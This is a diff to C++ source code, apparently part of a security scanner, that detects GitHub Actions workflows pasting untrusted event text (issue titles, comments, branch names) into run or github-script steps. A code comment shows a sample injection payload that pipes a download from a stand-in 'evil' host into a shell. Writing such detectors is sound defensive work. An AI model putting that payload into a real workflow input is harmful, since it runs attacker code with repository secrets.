@@ -1,5 +1,9 @@
 #include <re2/re2.h>
 
+#include <algorithm>
+#include <memory>
+#include <set>
+
 #include "extract/config/config_values.h"
 #include "extract/config/yaml_flavours.h"
 #include "extract/config/yaml_support.h"
@@ -51,6 +55,83 @@ void add_action(const YAML::Node& uses_node, const std::string& job, const std::
             {"docker", docker}, {"job", job}, {"github_owned", github_owned}, {"severity", severity}});
 }
 
+// Triggers through which someone without write access to the repository sets the event's
+// text (an issue title, a comment, a fork's branch name) while the job holds the repository's
+// secrets or a write token. A fork's pull_request runs with neither.
+bool outsider_trigger(const std::string& trigger) {
+  static const std::set<std::string> triggers{"issues", "issue_comment", "discussion", "discussion_comment",
+                                              "pull_request_target", "workflow_run"};
+  return triggers.contains(trigger);
+}
+
+// The event fields whoever opens an issue, a pull request or a comment writes (GitHub
+// Security Lab's list of untrusted input), named for the message.
+std::string untrusted_context(const std::string& expression) {
+  static const std::vector<std::pair<std::unique_ptr<RE2>, std::string>> contexts = [] {
+    std::vector<std::pair<std::unique_ptr<RE2>, std::string>> list;
+    auto add = [&](const char* pattern, const char* label) { list.emplace_back(std::make_unique<RE2>(pattern), label); };
+    add(R"(github\.event\.issue\.(title|body)\b)", "the issue's title or body");
+    add(R"(github\.event\.pull_request\.(title|body)\b)", "the pull request's title or body");
+    add(R"(github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)\b|github\.head_ref\b)",
+        "the pull request's branch name");
+    add(R"(github\.event\.(comment|review|review_comment)\.body\b)", "a comment's body");
+    add(R"(github\.event\.discussion\.(title|body)\b)", "the discussion's title or body");
+    add(R"(github\.event\.pages\b.*\.page_name\b)", "a wiki page's name");
+    add(R"(github\.event\.(commits\b.*|head_commit)\.(message|author\.(email|name))\b)", "a commit's message or author");
+    add(R"(github\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name)))\b)",
+        "the triggering run's branch or commit message");
+    return list;
+  }();
+  for (const auto& [pattern, label] : contexts)
+    if (RE2::PartialMatch(expression, *pattern)) return label;
+  return "";
+}
+
+// Every `${{ ... }}` of an untrusted event field inside a script (a `run:` step, or the
+// `script:` of actions/github-script): the runner pastes the text into the script before it
+// runs, so a title like `"; curl evil | sh #` is code. Each is placed on its own line.
+void add_script_expressions(const YAML::Node& script_node, const std::string& sink_kind, const std::string& job,
+                            const nlohmann::ordered_json& triggers, const std::string& workflow_name,
+                            const std::string& file, std::string_view text, FactSink& sink) {
+  auto script = scalar(script_node);
+  if (!script) return;
+  static const RE2 expression_pattern(R"((\$\{\{\s*([^}]*?)\s*\}\}))");
+  nlohmann::ordered_json outsiders = nlohmann::ordered_json::array();
+  for (const auto& trigger : triggers)
+    if (trigger.is_string() && outsider_trigger(trigger.get<std::string>())) outsiders.push_back(trigger);
+  re2::StringPiece rest(*script);
+  std::string whole, inner;
+  size_t search_from = script_node.Mark().pos >= 0 ? static_cast<size_t>(script_node.Mark().pos) : text.size();
+  while (RE2::FindAndConsume(&rest, expression_pattern, &whole, &inner)) {
+    std::string context = untrusted_context(inner);
+    if (context.empty()) continue;
+    Location location = location_of(script_node, file);
+    // The same text in the file, from the script's start: its line (a block scalar's content
+    // starts a line below its `|`).
+    if (search_from < text.size()) {
+      if (size_t found = text.find(whole, search_from); found != std::string_view::npos) {
+        location.line += static_cast<uint32_t>(std::count(text.begin() + static_cast<std::ptrdiff_t>(script_node.Mark().pos),
+                                                          text.begin() + static_cast<std::ptrdiff_t>(found), '\n'));
+        size_t line_start = text.rfind('\n', found);
+        location.column = static_cast<uint32_t>(found - (line_start == std::string_view::npos ? 0 : line_start + 1) + 1);
+        search_from = found + whole.size();
+      }
+    }
+    sink.add(FactType::workflow_expression, location,
+             {{"name", workflow_name},
+              {"expression", truncate_utf8(inner, 120)},
+              {"context", context},
+              {"sink", sink_kind},
+              {"job", job},
+              {"triggers", triggers},
+              {"outsider_triggers", outsiders},
+              {"trigger_note", outsiders.empty() ? std::string(", with its read-only token")
+                                                 : ", which runs on " + outsiders.front().get<std::string>() +
+                                                       " with the repository's secrets and a write token"},
+              {"severity", outsiders.empty() ? "medium" : "high"}});
+  }
+}
+
 }  // namespace
 
 bool is_github_workflow(const YAML::Node& document, std::string_view file) {
@@ -58,7 +139,7 @@ bool is_github_workflow(const YAML::Node& document, std::string_view file) {
   return document.IsMap() && at(document, {"jobs"}) && (in_workflows || at(document, {"on"}));
 }
 
-void extract_github_workflow(const YAML::Node& document, const std::string& file, FactSink& sink) {
+void extract_github_workflow(const YAML::Node& document, const std::string& file, std::string_view text, FactSink& sink) {
   nlohmann::ordered_json triggers = triggers_of(at(document, {"on"}));
   bool pull_request_target = std::find(triggers.begin(), triggers.end(), "pull_request_target") != triggers.end();
   bool workflow_run = std::find(triggers.begin(), triggers.end(), "workflow_run") != triggers.end();
@@ -67,6 +148,7 @@ void extract_github_workflow(const YAML::Node& document, const std::string& file
   YAML::Node checkout_node;
   nlohmann::ordered_json runs = nlohmann::ordered_json::array();
   add_env_block(at(document, {"env"}), "workflow", file, sink);
+  const std::string workflow_name = scalar_or(at(document, {"name"}), file);
 
   YAML::Node jobs = at(document, {"jobs"});
   for (const auto& job_entry : jobs.IsMap() ? jobs : YAML::Node()) {  // a list of jobs is no workflow
@@ -89,6 +171,8 @@ void extract_github_workflow(const YAML::Node& document, const std::string& file
             checkout_node = at(step, {"uses"});
           }
         }
+        if (uses.starts_with("actions/github-script"))
+          add_script_expressions(at(step, {"with", "script"}), "github-script", job, triggers, workflow_name, file, text, sink);
         if (at(step, {"with"}) && at(step, {"with"}).IsMap()) {
           for (const auto& input : at(step, {"with"})) {
             auto value = scalar(input.second);
@@ -98,11 +182,14 @@ void extract_github_workflow(const YAML::Node& document, const std::string& file
           }
         }
       }
-      if (auto run = scalar(at(step, {"run"}))) runs.push_back(truncate_utf8(*run, 400));
+      if (auto run = scalar(at(step, {"run"}))) {
+        runs.push_back(truncate_utf8(*run, 400));
+        add_script_expressions(at(step, {"run"}), "run", job, triggers, workflow_name, file, text, sink);
+      }
     }
   }
   sink.add(FactType::workflow, checkout_node ? location_of(checkout_node, file) : location_of(at(document, {"jobs"}), file),
-           {{"name", scalar_or(at(document, {"name"}), file)},
+           {{"name", workflow_name},
             {"triggers", triggers},
             {"pull_request_target", pull_request_target},
             {"workflow_run", workflow_run},
